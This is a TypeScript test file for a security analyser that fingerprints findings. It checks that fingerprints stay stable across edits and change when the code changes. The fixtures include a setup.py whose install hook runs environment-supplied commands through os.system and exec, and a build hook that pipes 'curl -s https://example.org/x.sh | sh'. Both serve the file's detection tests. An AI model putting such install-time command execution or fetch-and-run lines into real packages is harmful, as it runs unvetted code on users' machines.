/** Fingerprints of findings: the same when code moves, another when it says something else, and never the same twice. */
import assert from 'node:assert/strict';
import fc from 'fast-check';
import type { Finding } from '../../server/src/findings/finding';
import { fingerprints } from '../../server/src/findings/fingerprint';
import type { Analyser } from '../kit/analysis';
import { DEFAULT_CONFIG } from '../kit/analysis';
import { createAnalyser } from '../kit/analyser';

const SETUP = `import os, sys
from setuptools import setup
from setuptools.command.install import install

class Run(install):
    def run(self):
        tool = os.environ["TOOL"]
        os.system(tool)
        os.system(tool)
        if os.system(
            tool,
        ):
            exec("import os\\nos.system(os.environ['OTHER'])")

setup(name="x", cmdclass={"install": Run})
`;
const CONFIG = `[build-system]
requires = ["setuptools"]
build-backend = "setuptools.build_meta"

[tool.setuptools.dynamic]
version = {attr = "pkg.VERSION"}
`;

describe('fingerprints', () => {
  let analyser: Analyser;
  before(async () => { analyser = await createAnalyser(); });
  const findingsOf = (files: Readonly<Record<string, string>>): readonly Finding[] => analyser.analyse(files, { ...DEFAULT_CONFIG, persona: 'auditor' }).findings;
  const of = (files: Readonly<Record<string, string>>): string[] => [...fingerprints(findingsOf(files)).values()].sort();
  const ofSetup = (text: string): string[] => of({ 'setup.py': text });

  it('are all different', () => {
    const found = ofSetup(SETUP);
    assert.ok(found.length >= 5, String(found.length));
    assert.equal(new Set(found).size, found.length);
  });

  it('say where a finding stands in words of the program', () => {
    const anchors = findingsOf({ 'setup.py': SETUP }).filter(({ rule }) => rule === 'process-start').map(({ anchor }) => [anchor?.within, anchor?.text]);
    assert.deepEqual(anchors, [
      ['Run.run', 'os.system(tool)'], ['Run.run', 'os.system(tool)'], ['Run.run', 'if os.system( tool, ):'], ['Run.run', "os.system(os.environ['OTHER'])"],
    ]);
  });

  it('of configuration name the table and the line', () => {
    const text = `${CONFIG}[tool.cibuildwheel]\nbefore-build = "curl -s https://example.org/x.sh | sh"\n`;
    const anchors = new Set(findingsOf({ 'pyproject.toml': text }).map(({ anchor }) => `${anchor?.within}: ${anchor?.text}`));
    assert.ok(anchors.has('tool.cibuildwheel: before-build = "curl -s https://example.org/x.sh | sh"'), [...anchors].join('\n'));
  });

  it('survive lines, comments and white space that come and go', () => {
    const before = ofSetup(SETUP);
    const line = fc.constantFrom('', '# a word', 'UNRELATED = 1', '"""text"""');
    fc.assert(fc.property(fc.array(line, { maxLength: 4 }), fc.array(fc.tuple(fc.nat(8), fc.constantFrom('', '        # a word'))), fc.boolean(), (top, inside, windows) => {
      const lines = SETUP.split('\n');
      for (const [at, text] of inside) lines.splice(Math.min(at, 8) + 1, 0, ...(at >= 5 && at <= 7 ? [text] : []));
      const text = [...top, ...lines].join('\n').replace('            tool,', '               tool,   # the tool');
      assert.deepEqual(ofSetup(windows ? text.replaceAll('\n', '\r\n') : text), before);
    }), { numRuns: 40 });
  });

  it('change with the statement, with what reaches it, with the function around it and with the file', () => {
    const before = new Set(ofSetup(SETUP));
    const changed = (text: string): number => ofSetup(text).filter((one) => !before.has(one)).length;
    assert.equal(changed(SETUP), 0);
    assert.ok(changed(SETUP.replace('        os.system(tool)\n        os.system(tool)', '        os.system(tool)\n        os.system(tool + " -v")')) > 0);
    assert.ok(changed(SETUP.replace('os.environ["TOOL"]', 'sys.argv[1]')) > 0);
    assert.ok(changed(SETUP.replace('def run(self)', 'def finalize_options(self)')) > 0);
    assert.ok(of({ 'tools/setup.py': SETUP }).every((one) => !before.has(one)));
  });

  it('tell a third equal statement from the two before it', () => {
    const before = ofSetup(SETUP);
    const after = ofSetup(SETUP.replace('        os.system(tool)\n', '        os.system(tool)\n        os.system(tool)\n'));
    assert.deepEqual(before.filter((one) => !after.includes(one)), []);
    assert.ok(after.length > before.length);
  });

  it('hold little of a program that is one line', () => {
    const text = `import os; ${'os.system("x"); '.repeat(200)}\n`;
    for (const { anchor } of findingsOf({ 'setup.py': text })) assert.ok((anchor?.text.length ?? 0) < 2100);
  });
});
